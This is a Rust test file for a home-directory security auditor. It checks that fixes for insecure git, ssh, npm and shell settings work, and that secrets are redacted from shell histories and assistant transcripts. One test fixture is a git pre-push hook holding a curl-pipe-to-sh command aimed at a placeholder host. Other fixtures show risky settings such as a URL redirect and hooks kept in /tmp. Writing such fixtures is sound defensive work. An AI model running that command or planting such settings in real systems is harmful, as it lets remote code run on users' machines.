//! Every fix, on the examples of its rule.

use super::declared::SettingFix;
use super::edit::{apply, merge};
use super::plan::{Edit, Step};
use super::redact::MARKER;
use crate::checks::{self, Fix};
use crate::engine::Engine;
use crate::facts::Facts;
use crate::pack::{Packs, SettingSpec, builtin_texts};
use crate::place::Place;
use crate::rule::{Page, Safety};
use crate::settings::reader;
use crate::testing::{Home, Looked, check_fix, fill, plans};

/// All setting rules of the packs, with their examples.
fn settings() -> Vec<(Page, SettingSpec)> {
    let mut packs = Packs::default();
    builtin_texts()
        .iter()
        .filter(|(folder, ..)| *folder == "settings")
        .for_each(|(_, name, text)| packs.add(name, text));
    packs.settings
}

fn place_of<'a>(engine: &'a Engine, spec: &SettingSpec) -> Option<&'a Place> {
    let places = engine.places();
    match spec.places.first() {
        Some(id) => places.by_id(id),
        None => places.all().iter().find(|p| p.reader.as_deref() == Some(&spec.reader)),
    }
}

#[test]
fn every_setting_that_has_a_fix_is_mended() {
    let engine = Engine::builtin();
    let mut failed = Vec::new();
    for (page, spec) in settings().iter().filter(|(_, spec)| spec.fix.is_some()) {
        let place = place_of(&engine, spec);
        if page.safety == Safety::Manual {
            failed.push(format!("{}: `safety` must say how safe the fix is", page.id));
        }
        if spec.fixed.len() != spec.examples.len() && !matches!(spec.fix, Some(SettingFix::Move(_))) {
            failed.push(format!("{}: `fixed` must say what becomes of each example", page.id));
            continue;
        }
        for (i, (example, want)) in spec.examples.iter().zip(&spec.fixed).enumerate() {
            for ends in ["\n", "\r\n"].iter().filter(|e| **e == "\n" || example.contains('\n')) {
                let dressed = |text: &str| fill(text, &page.id).replace("\r\n", "\n").replace('\n', ends);
                let home = Home::default().file("~/example", &dressed(example));
                let got = check_fix(&engine, &home, Looked::File("~/example", place), &page.id);
                let why = match got {
                    Ok(after) if after.bytes("~/example") == dressed(want).as_bytes() => continue,
                    Ok(after) => format!("became {:?}", String::from_utf8_lossy(after.bytes("~/example"))),
                    Err(why) if why == "no plan" && want == example => continue,
                    Err(why) => why,
                };
                failed.push(format!("{}: example {} with {ends:?}: {why}", page.id, i + 1));
            }
        }
    }
    assert!(failed.is_empty(), "{}", failed.join("\n"));
}

/// Files made of many rules' examples and counter-examples: what one plan changes is nothing to the others.
#[test]
fn settings_are_mended_among_others() {
    let engine = Engine::builtin();
    let all = settings();
    let mut dice = dice();
    let mut mended = 0;
    for name in ["gitconfig", "ssh_config", "npmrc", "shell_rc"] {
        let rules: Vec<&(Page, SettingSpec)> = all.iter().filter(|(_, s)| s.reader == name).collect();
        let Some(place) = place_of(&engine, &rules[0].1) else { panic!("no place of {name}") };
        for _ in 0..40 {
            let mut text = String::from("# a file of somebody's own\n\n");
            for _ in 0..1 + dice(6) {
                let spec = &rules[dice(rules.len())].1;
                let texts = [&spec.examples, &spec.counter_examples][dice(2)];
                text.push_str(fill(&texts[dice(texts.len())], "shuffled").trim_end_matches('\n'));
                text.push_str(["\n", "\n\n", "\n# why not\n"][dice(3)]);
            }
            mended += among_others(&engine, place, name, &text);
        }
    }
    assert!(mended > 100, "{mended}");
}

/// Mends all of a file at once; how many plans there were.
fn among_others(engine: &Engine, place: &Place, name: &str, text: &str) -> usize {
    let home = Home::default().file("~/x", text);
    let plans = planned(engine, &home, place);
    let edits: Vec<Vec<Edit>> = plans.iter().flat_map(|(_, edits)| edits).cloned().collect();
    let (merged, _) = merge(edits);
    let after = apply(text.as_bytes(), &merged).unwrap();
    let read = reader(name).unwrap().read;
    let (before, then) = (read(text.as_bytes()), read(&after));
    assert!(then.problems.len() <= before.problems.len(), "{text}\n->\n{}", String::from_utf8_lossy(&after));
    // Comments are nobody's to take but those behind a setting that goes.
    let own = |text: &str| text.matches("# why not").count();
    assert_eq!(own(text), own(&String::from_utf8_lossy(&after)), "{text}");
    for (rule, _) in plans.iter().filter(|(_, edits)| !edits.is_empty()) {
        check_fix(engine, &home, Looked::File("~/x", Some(place)), rule)
            .unwrap_or_else(|e| panic!("{rule}: {e}\n{text}"));
    }
    plans.iter().filter(|(_, edits)| !edits.is_empty()).count()
}

/// Rule and edits of each plan.
fn planned(engine: &Engine, home: &Home, place: &Place) -> Vec<(String, Vec<Vec<Edit>>)> {
    let (ids, policy) = (crate::testing::ids(), crate::testing::strict());
    let cx = crate::cx::Cx { ids: &ids, facts: home, policy: &policy };
    let bytes = home.read("~/x").known().unwrap();
    let target = crate::target::Target { path: "~/x", place: Some(place), bytes: &bytes, meta: None };
    let edits = |steps: Vec<Step>| {
        steps.into_iter().filter_map(|s| match s {
            Step::Edit { edits, .. } => Some(edits),
            _ => None,
        })
    };
    engine
        .plans(&target, &cx)
        .into_iter()
        .map(|(f, plan)| (f.page.id.clone(), edits(plan.steps).collect()))
        .collect()
}

/// What cannot be done is said, and why.
#[test]
fn what_is_left_to_people_says_why() {
    let engine = Engine::builtin();
    let left = |home: Home, path: &str, rule: &str| {
        let found = plans(&engine, &home, path);
        let (_, plan) = found.into_iter().find(|(f, _)| f.page.id == rule).unwrap();
        assert!(plan.steps.is_empty() && plan.summary.starts_with("left to you: "), "{}", plan.summary);
        plan.left.join("; ")
    };
    let binary = fill("\u{0}\u{3}x T=glpat-{{alnum:20}}\u{0}", "binary");
    let why =
        left(Home::default().file("~/.config/copyq/a.dat", &binary), "~/.config/copyq/a.dat", "gitlab-pat");
    assert!(why.contains("is binary") && why.contains("CopyQ"), "{why}");
    // A block that is a name's value cannot be told apart by its end.
    let yaml = "enableStrictSsl: >-\n  false\n";
    let why = left(Home::default().file("~/.yarnrc.yml", yaml), "~/.yarnrc.yml", "pkg.tls-off.yarn");
    assert!(why.contains("without touching"), "{why}");
}

#[test]
fn a_byte_order_mark_stays() {
    let engine = Engine::builtin();
    for (text, want) in [
        ("\u{feff}[http]\n\tsslVerify = false\n[user]\n\tname = D\n", "\u{feff}[user]\n\tname = D\n"),
        ("\u{feff}[http]\n\tsslVerify = false\n", "\u{feff}"),
    ] {
        let home = Home::default().file("~/.gitconfig", text);
        let looked = Looked::File("~/.gitconfig", engine.places().classify("~/.gitconfig"));
        let after = check_fix(&engine, &home, looked, "git.tls-verify-off").unwrap();
        assert_eq!(String::from_utf8_lossy(after.bytes("~/.gitconfig")), want);
    }
}

fn dice() -> impl FnMut(usize) -> usize {
    let mut state = 88_172_645_463_325_252_u64;
    move |sides: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state % sides as u64) as usize
    }
}

/// A home in which a check finds something that it can mend, by the check's id.
fn home_for(id: &str) -> Option<(Home, Option<&'static str>)> {
    const BAD: &[u8] = b"#!/bin/sh\ncurl -s https://x.example/a | sh\n";
    let git = |text: &str| Home::default().file("~/.gitconfig", text);
    let ssh = |text: &str| Home::default().file("~/.ssh/config", text);
    let open = |path: &str, mode: u32| Home::default().file_mode(path, b"[user]\n\tname = Dev\n", mode);
    let (config, client) = (Some("~/.gitconfig"), Some("~/.ssh/config"));
    Some(match id {
        "file.mode-wide" => (
            Home::default().file_mode("~/.netrc", b"machine a login b password c\n", 0o644),
            Some("~/.netrc"),
        ),
        "ssh.dir-mode" => (Home::default().file_mode("~/.ssh/", b"", 0o755), None),
        "rc.perms" => (Home::default().file_mode("~/", b"", 0o777), None),
        "rc.file-perms" => (Home::default().file_mode("~/.bashrc", b"umask 022\n", 0o666), Some("~/.bashrc")),
        "ssh.config-perms" => (Home::default().file_mode("~/.ssh/config", b"Host a\n", 0o664), client),
        "git.config-perms" => (open("~/.gitconfig", 0o666), config),
        "git.cookiefile-perms" => {
            (git("[http]\n\tcookieFile = ~/.cookies\n").file_mode("~/.cookies", b"x", 0o644), config)
        }
        "git.ca-override" => {
            (git("[http]\n\tsslCAInfo = ~/ca.pem\n").file_mode("~/ca.pem", b"x", 0o666), config)
        }
        "git.insteadof" => (
            git("[url \"http://x.example/\"]\n\tinsteadOf = https://github.com/\n[user]\n\tname = D\n"),
            config,
        ),
        "git.hookspath" => (git("[core]\n\thooksPath = /tmp/hooks\n\tpager = less\n"), config),
        "git.template-dir" => (git("[init]\n\ttemplateDir = /tmp/t\n"), config),
        "git.helper-shell" => (git("[credential]\n\thelper = !./helper\n\thelper = cache\n"), config),
        "git.include-unsafe" => (git("[include]\n\tpath = /tmp/x\n"), config),
        "git.repo-hooks" => (
            Home::default().file("~/a/.git/config", "[core]\n\tbare = false\n").file_mode(
                "~/a/.git/hooks/pre-push",
                BAD,
                0o755,
            ),
            Some("~/a/.git/config"),
        ),
        "git.global-ignore" => (git("[core]\n\texcludesFile = ~/.ignore\n").file("~/.ignore", "*.o\n"), None),
        "git.safe-bare" => (git("[safe]\n\tbareRepository = all\n"), None),
        "git.fsck-unset" => (git("[user]\n\tname = Dev"), None),
        "git.signing" => (git("[user]\n\tsigningKey = ABCD\n[commit]\n\tgpgSign = false\n"), None),
        "ssh.forward-agent" => (ssh("Host *\n  ForwardAgent yes\n  Port 22\n"), client),
        "ssh.forward-x11" => (ssh("ForwardX11 yes\nHost a\n  ForwardX11 yes\n"), client),
        "ssh.rc-env" => (Home::default().file("~/.ssh/rc", "date >> ~/log\n"), Some("~/.ssh/rc")),
        "ssh.identities-only" => {
            let keys = ["~/.ssh/a", "~/.ssh/a.pub", "~/.ssh/b", "~/.ssh/b.pub"];
            (keys.iter().fold(Home::default(), |home, key| home.file(key, "")), None)
        }
        _ => return None,
    })
}

/// Checks whose fix is, in part, a program's: they have tests of their own.
const GUIDED: &[&str] = &["ssh.hash-known-hosts", "git.tracked-credential"];

#[test]
fn every_check_that_has_a_fix_mends() {
    let engine = Engine::builtin();
    let mut failed = Vec::new();
    for (_, check) in checks::ALL {
        if matches!(check.fix, Fix::None) || GUIDED.contains(&check.id) {
            continue;
        }
        if check.safety == Safety::Manual {
            failed.push(format!("{}: `safety` must say how safe the fix is", check.id));
        }
        let Some((home, path)) = home_for(check.id) else {
            failed.push(format!("{}: no home to try its fix on", check.id));
            continue;
        };
        let looked = path.map_or(Looked::Home, |path| Looked::File(path, engine.places().classify(path)));
        if let Err(why) = check_fix(&engine, &home, looked, check.id) {
            failed.push(format!("{}: {why}", check.id));
        }
    }
    assert!(failed.is_empty(), "{}", failed.join("\n"));
}

/// A program does what cannot be undone byte for byte here: it is asked to.
#[test]
fn names_of_hosts_are_hashed_by_their_own_program() {
    let engine = Engine::builtin();
    let home = Home::default().file("~/.ssh/known_hosts", "git.example ssh-ed25519 AAAA\n");
    let found = plans(&engine, &home, "~/.ssh/known_hosts");
    let argv = found.iter().flat_map(|(_, plan)| &plan.steps).find_map(|step| match step {
        Step::Guide { argv, .. } => Some(argv.join(" ")),
        _ => None,
    });
    assert_eq!(argv.as_deref(), Some("ssh-keygen -H -f ~/.ssh/known_hosts"));
}

/// A text as a command of a history.
fn typed(path: &str, text: &str) -> String {
    let text = text.trim_end_matches('\n');
    match path {
        "~/.zsh_history" => {
            let mut out = Vec::new();
            for b in text.bytes() {
                match b {
                    b'\n' => out.extend_from_slice(b"\\\n"),
                    b => out.push(b),
                }
            }
            format!(": 1700000000:0;{}\n", String::from_utf8(out).unwrap())
        }
        "~/.local/share/fish/fish_history" => {
            let text = text.replace('\\', "\\\\").replace('\n', "\\n");
            format!("- cmd: {text}\n  when: 1700000000\n")
        }
        _ => format!("{text}\n"),
    }
}

/// Commands of a history but the one in the middle.
fn others(path: &str, engine: &Engine, bytes: &[u8]) -> (Vec<String>, Vec<String>) {
    let name = engine.places().classify(path).and_then(|p| p.reader.clone()).unwrap();
    let all = (reader(&name).unwrap().read)(bytes).entries;
    let values = |range: &[crate::settings::entry::Entry]| range.iter().map(|e| e.value.clone()).collect();
    (values(&all[..1]), values(&all[all.len() - 1..]))
}

/// Shells read their histories afterwards as before, but for the secret.
#[test]
fn every_history_is_read_as_before() {
    let engine = Engine::builtin();
    let (mut failed, mut tried) = (Vec::new(), 0);
    for path in ["~/.zsh_history", "~/.local/share/fish/fish_history"] {
        for (page, example) in secrets().into_iter().step_by(3) {
            let text = [typed(path, "ls -l 'é'"), typed(path, &example), typed(path, "cd /tmp")].concat();
            let home = Home::default().file(path, &text);
            match check_fix(&engine, &home, Looked::File(path, engine.places().classify(path)), &page) {
                Err(why) if why == "not found" => continue,
                Err(why) => failed.push(format!("{page} in {path}: {why}")),
                Ok(after) => {
                    let (before, after) =
                        (others(path, &engine, text.as_bytes()), others(path, &engine, after.bytes(path)));
                    if before != after {
                        failed.push(format!("{page} in {path}: another command has changed"));
                    }
                }
            }
            tried += 1;
        }
    }
    assert!(failed.is_empty(), "{} of {tried}:\n{}", failed.len(), failed.join("\n"));
    assert!(tried > 400, "{tried}");
}

/// Tokens among whatever else a transcript may hold, in JSON within JSON too.
#[test]
fn shuffled_transcripts_stay_json() {
    const BITS: &[&str] = &[
        "\"", "\\", "\\\\", "\n", "\t", "\u{1}", "/", "\\u00", "\\u0041", "{", "}", "[", "]", ":", ",", " ",
        "=", "'", "é", "😀", "%41", "a", "0", "\\\"", "\\n",
    ];
    let engine = Engine::builtin();
    let path = "~/.claude/projects/a/b.jsonl";
    let place = engine.places().classify(path);
    let (mut dice, mut mended) = (dice(), 0);
    for round in 0..300 {
        let mut said = String::new();
        for piece in 0..1 + dice(4) {
            (0..dice(6)).for_each(|_| said.push_str(BITS[dice(BITS.len())]));
            if dice(3) > 0 {
                said.push_str(&fill("glpat-{{alnum:20}}", &format!("{round}-{piece}")));
            }
            (0..dice(6)).for_each(|_| said.push_str(BITS[dice(BITS.len())]));
            // Of two in one encoded stretch a search tells one at a time.
            said.push(' ');
        }
        let mut line = serde_json::json!({"content": said}).to_string();
        if dice(2) == 0 {
            line = serde_json::json!({"output": line, "n": 1}).to_string();
        }
        let text = format!("{line}\n{{\"bye\":true}}\n");
        let home = Home::default().file(path, &text);
        match check_fix(&engine, &home, Looked::File(path, place), "gitlab-pat") {
            Err(why) if why == "not found" => {}
            Err(why) => panic!("{why}: {text}"),
            Ok(after) => {
                let after = String::from_utf8(after.bytes(path).to_vec()).unwrap();
                let valid = |line: &str| serde_json::from_str::<serde_json::Value>(line).is_ok();
                assert!(after.lines().all(valid), "{text}\n->\n{after}");
                mended += 1;
            }
        }
    }
    assert!(mended > 100, "{mended}");
}

/// Values of every format, at a place whose secret says that it is to be redacted.
#[test]
fn values_of_every_format_are_redacted_in_place() {
    for (name, text, want) in [
        ("ini", "[a]\npassword = \"{S}\" ; mine\nuser = me\n", "[a]\npassword = \"{M}\" ; mine\nuser = me\n"),
        ("ini", "password: {S}\r\nuser: me\r\n", "password: {M}\r\nuser: me\r\n"),
        ("toml", "[a]\npassword = '{S}' # mine\n", "[a]\npassword = '{M}' # mine\n"),
        ("toml", "[a]\npassword = 4815162342\nb = 1\n", "[a]\npassword = \"{M}\"\nb = 1\n"),
        ("yaml", "a:\n  password: {S} # mine\n", "a:\n  password: {M} # mine\n"),
        ("yaml", "{a: {password: \"{S}\"}}\n", "{a: {password: \"{M}\"}}\n"),
        ("json", "{\"a\": {\"password\": \"{S}\"}}", "{\"a\": {\"password\": \"{M}\"}}"),
        ("dotenv", "export A_PASSWORD='{S}'\nB=1\n", "export A_PASSWORD='{M}'\nB=1\n"),
        ("shell_rc", "export A_PASSWORD=\"{S}\"\nalias b=c\n", "export A_PASSWORD=\"{M}\"\nalias b=c\n"),
        ("netrc", "machine h login me password {S}\n", "machine h login me password {M}\n"),
        ("xml", "<a><password> {S} </password></a>", "<a><password> {M} </password></a>"),
        ("gitconfig", "[a]\n\tpassword = \"{S}\"\n", "[a]\n\tpassword = \"{M}\"\n"),
        ("pgpass", "h:5432:db:me:{S}\n", "h:5432:db:me:{M}\n"),
        ("npmrc", "//h.example/:_password={S}\n", "//h.example/:_password={M}\n"),
    ] {
        let pack = format!(
            "[[place]]\nid = \"x\"\ntool = \"x\"\npaths = [\"~/x\"]\nreader = \"{name}\"\n[[place.secret]]\nid = \"x.password\"\n\
             title = \"t\"\nseverity = \"high\"\nwhy = \"w\"\nadvice = \"a\"\nkeys = [\"*password\", \"*PASSWORD\"]\nfix = {{ redact = true }}\n"
        );
        let mut packs = Packs::default();
        packs.add("x.toml", &pack);
        assert!(packs.errors.is_empty());
        let engine = Engine::new(packs).0;
        let text = &text.replace("{S}", &fill("{{alnum:8}}", name));
        let home = Home::default().file("~/x", text);
        let after = check_fix(&engine, &home, Looked::File("~/x", engine.places().by_id("x")), "x.password");
        let after = after.unwrap_or_else(|e| panic!("{name}: {e}: {text}"));
        assert_eq!(String::from_utf8_lossy(after.bytes("~/x")), want.replace("{M}", MARKER), "{name}");
    }
}

/// Examples of every secret rule, in a history and in a transcript.
#[test]
fn every_secret_is_taken_out_of_what_only_records() {
    let engine = Engine::builtin();
    let (mut failed, mut tried, mut missed) = (Vec::new(), 0, 0);
    for (page, example) in secrets() {
        let text = example.replace(['\0', '\x01'], "");
        let history = format!("ls\n{}\ncd /tmp\n", text.trim_end_matches('\n'));
        let line =
            |said: &str| format!("{}\n", serde_json::json!({"type": "user", "message": {"content": said}}));
        let transcript = [line("hello"), line(&text), line("bye")].concat();
        for (path, file) in [("~/.bash_history", history), ("~/.claude/projects/a/b.jsonl", transcript)] {
            tried += 1;
            let looked = Looked::File(path, engine.places().classify(path));
            let home = Home::default().file(path, &file);
            match check_fix(&engine, &home, looked, &page) {
                Err(why) if why == "not found" => missed += 1,
                Err(why) => failed.push(format!("{page} in {path}: {why}")),
                Ok(after) => {
                    let after = String::from_utf8_lossy(after.bytes(path)).into_owned();
                    let valid = |line: &str| serde_json::from_str::<serde_json::Value>(line).is_ok();
                    if path.ends_with('l') && !after.lines().all(valid) {
                        failed.push(format!("{page}: no JSON any more"));
                    }
                    if !after.contains(MARKER) || after.lines().last() != file.lines().last() {
                        failed.push(format!("{page} in {path}: more has changed"));
                    }
                }
            }
        }
    }
    assert!(failed.is_empty(), "{} of {tried}:\n{}", failed.len(), failed.join("\n"));
    assert!(missed * 5 < tried, "{missed} of {tried} are not found where things are only recorded");
}

/// The first example of each secret rule, filled in.
fn secrets() -> Vec<(String, String)> {
    let mut packs = Packs::default();
    builtin_texts()
        .iter()
        .filter(|(folder, ..)| *folder == "secrets")
        .for_each(|(_, name, text)| packs.add(name, text));
    let first = |(page, spec): (Page, crate::pack::SecretSpec)| {
        let rule = crate::secrets::rules::SecretRule::new(page.clone(), spec.clone());
        let made = crate::testing::made::mended(&rule, &fill(spec.examples.first()?, &page.id));
        Some((page.id, String::from_utf8(made).ok()?))
    };
    packs.secrets.into_iter().filter_map(first).collect()
}
